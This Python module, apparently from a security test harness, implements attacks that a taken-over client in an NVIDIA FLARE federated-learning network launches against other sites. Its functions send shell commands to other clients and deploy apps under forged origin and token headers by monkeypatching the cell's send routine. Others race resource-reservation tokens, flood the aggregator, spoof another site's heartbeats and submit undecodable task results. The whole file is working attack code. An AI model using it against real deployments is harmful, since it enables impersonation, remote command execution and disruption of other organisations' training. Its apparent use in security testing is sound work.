"""What a site whose client somebody else has taken over does to others: run in that client, with its cell.

Each attack is named by the file `lie` in the kit of the site that attacks (see sitecustomize.py).
"""

import os
import threading
import time
from pathlib import Path

from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey
from nvflare.fuel.f3.streaming.stream_const import StreamHeaderKey
from nvflare.private.admin_defs import Message
from nvflare.private.defs import (
    CellChannel,
    CellMessageHeaderKeys,
    RequestHeader,
    SysCommandTopic,
    TrainingTopic,
    new_cell_message,
)
from nvflare.private.scheduler_constants import ShareableHeader

_SHOWN = (
    CellMessageHeaderKeys.CLIENT_NAME,
    CellMessageHeaderKeys.TOKEN,
    CellMessageHeaderKeys.TOKEN_SIGNATURE,
)
_STARTS = 40  # in a second


def shell(cell, engine, target, command):
    """Ask another site's client to run a command."""
    return _ask(cell, target, Message(SysCommandTopic.SHELL, command), 5.0)


def deploy(cell, engine, target, jobs, app, origin=None, token=None):
    """Hand another site's client an app, under job ids of our choice; perhaps in the name of another cell."""
    forge = _Forge(cell, origin, token)
    try:
        return [_ask(cell, target, _deploy(job, Path(app).read_bytes()), 2.0) for job in jobs]
    finally:
        forge.end()


def race(cell, engine, targets, job, app, seconds):
    """Hand other sites' clients an app, and start the job again and again while the app is checked."""
    body = Path(app).read_bytes()
    tokens = {target: _reserved(cell, target, job, int(seconds * _STARTS)) for target in targets}
    told = {}

    def hand(target):
        told[target] = _ask(cell, target, _deploy(job, body), seconds)

    threads = [threading.Thread(target=hand, args=(target,)) for target in targets]
    for thread in threads:
        thread.start()
    while any(thread.is_alive() for thread in threads):
        for target in targets:
            start = Message(TrainingTopic.START_JOB, {})
            start.set_header(RequestHeader.JOB_ID, job)
            start.set_header(RequestHeader.JOB_META, _meta(job))
            start.set_header(ShareableHeader.RESOURCE_RESERVE_TOKEN, tokens[target] and tokens[target].pop())
            cell.fire_and_forget(
                targets=target,
                channel=CellChannel.CLIENT_MAIN,
                topic="x",
                message=new_cell_message({}, start),
            )
        time.sleep(1 / _STARTS)  # a site that is kept busy would not get to the end of its check
    return told


def _reserved(cell, target, job, count):
    """Return a token for each start, or none if the site does not answer."""
    found = []
    while len(found) < count:
        request = Message(TrainingTopic.CHECK_RESOURCE, {})
        request.set_header(RequestHeader.JOB_ID, job)
        body = getattr(_request(cell, target, request, 2.0), "body", None)
        if not hasattr(body, "get_header"):
            return []
        found.append(body.get_header(ShareableHeader.RESOURCE_RESERVE_TOKEN))
    return found


def token(cell, engine):
    """Tell what the aggregator gave this client to show with each message."""
    return [engine.client.client_name, engine.client.token, engine.client.token_signature]


def _deploy(job, body):
    request = Message(TrainingTopic.DEPLOY, body)
    request.set_header(RequestHeader.JOB_ID, job)
    request.set_header(RequestHeader.JOB_META, _meta(job))
    request.set_header(RequestHeader.APP_NAME, "cape")
    return request


def _meta(job):
    return {"job_id": job, "name": "x", "resource_spec": {}}


def _ask(cell, target, request, seconds):
    reply = _request(cell, target, request, seconds)
    return str(getattr(reply, "body", reply))


def _request(cell, target, request, seconds):
    options = {"channel": CellChannel.CLIENT_MAIN, "topic": "x", "timeout": seconds}
    return cell.send_request(target=target, request=new_cell_message({}, request), **options).payload


class _Forge:
    """Sends all that leaves this cell in the name of another, until it ends."""

    def __init__(self, cell, origin, token):
        self._core = cell.core_cell
        self._send = self._core._send_to_endpoint

        def send(to_endpoint, message):
            if origin is not None:
                message.set_header(MessageHeaderKey.ORIGIN, origin)
                message.set_header(MessageHeaderKey.ROUTE, [])
            if token is not None:
                for key, value in zip(_SHOWN, token, strict=True):
                    message.set_header(key, value)
            return self._send(to_endpoint, message)

        self._core._send_to_endpoint = send

    def end(self):
        self._core._send_to_endpoint = self._send


def flood(cell, engine, seconds):
    """Send the aggregator as much as this machine can: signs of life, topics of nobody, and large bodies."""
    from nvflare.apis.shareable import Shareable

    large = Shareable()
    large["data"] = bytes(1 << 20)
    until, sent = time.monotonic() + seconds, [0]

    def send():
        while time.monotonic() < until:
            sent[0] += 1
            topic, body = (("cape.alive", Shareable()), (f"x{sent[0]}", Shareable()), ("cape.alive", large))[
                0 if sent[0] % 20 else 2 if sent[0] % 40 else 1
            ]
            for job in ("", *(f".{job}" for job in engine.get_all_job_ids())):
                cell.fire_and_forget(
                    targets=f"server{job}",
                    channel=CellChannel.AUX_COMMUNICATION,
                    topic=topic,
                    message=new_cell_message({}, body),
                    optional=True,
                )

    threads = [threading.Thread(target=send) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return sent[0]


def vouch(cell, engine, site):
    """Say, in the name of another site, that it is alive: until there is a file `enough` in the kit."""
    from nvflare.apis.fl_constant import ReservedKey
    from nvflare.apis.shareable import Shareable

    enough = Path(engine.args.workspace) / "enough"
    while not enough.exists():
        told = Shareable()
        told.set_peer_props({ReservedKey.IDENTITY_NAME: site})
        for job in engine.get_all_job_ids():
            cell.fire_and_forget(
                targets=f"server.{job}",
                channel=CellChannel.AUX_COMMUNICATION,
                topic="cape.alive",
                message=new_cell_message({CellMessageHeaderKeys.SSID: engine.client.ssid}, told),
                optional=True,
            )
        time.sleep(0.5)
    enough.unlink()


def poison(cell, engine, seconds):
    """Send each job at the aggregator the result of a task that cannot be decoded."""
    until, sent = time.monotonic() + seconds, 0
    while time.monotonic() < until:
        for job in engine.get_all_job_ids():
            message = new_cell_message({StreamHeaderKey.PAYLOAD_ENCODING: "fobs"}, os.urandom(64))
            cell.send_blob("server_command", "submit_update", f"server.{job}", message)
            sent += 1
        time.sleep(0.2)
    return sent
